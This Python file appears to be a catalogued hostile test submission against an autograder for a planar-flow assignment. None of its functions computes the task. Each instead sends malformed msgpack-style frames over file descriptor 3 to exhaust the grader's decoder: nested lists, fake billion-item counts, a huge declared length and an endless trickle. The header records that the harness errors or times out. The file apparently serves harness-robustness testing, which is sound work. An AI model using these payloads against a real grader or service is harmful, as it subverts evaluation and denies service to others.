"""Sends frames that cost their reader more than they cost their sender.

Catalogue: 95, 96
Question: p4_planar_flow
Comes to: h_fn ERRORED, h_prime_fn ERRORED/TIMED_OUT, base_density ERRORED, transform
  ERRORED, det_invertible ERRORED, det_abs ERRORED, density ERRORED, stats TIMED_OUT
Seconds: 10
Not stopped by: nothing
"""

import os
import socket
import struct
import time

import torch

line = socket.socket(fileno=os.dup(3))


def say(payload, length=None):
    line.sendall(struct.pack("<Q", len(payload) if length is None else length))
    line.sendall(payload)


def h(a):
    say(b"\x91" * 1_000_000)  # a list in a list in a list


def h_prime(a):
    say(b"\xdd\xff\xff\xff\xff" + b"\xc0" * 1_000_000)  # four billion items


def q0(z):
    say(b"\xdc\xff\xff" * 300_000)


def f(z, u, w, b):
    say(b"\xdf\xff\xff\xff\xff" + b"\x01\x02" * 500_000)


def abs_det(z, u, w, b):
    say(b"\xc7\xff\x01" + os.urandom(255))


def q1(z, u, w, b):
    say(b"", 2**63 - 1)


def q1_mean_std(z, u, w, b):
    line.sendall(struct.pack("<Q", 1 << 20))
    while True:  # a byte at a time, for ever
        line.sendall(b"\xc0")
        time.sleep(0.01)
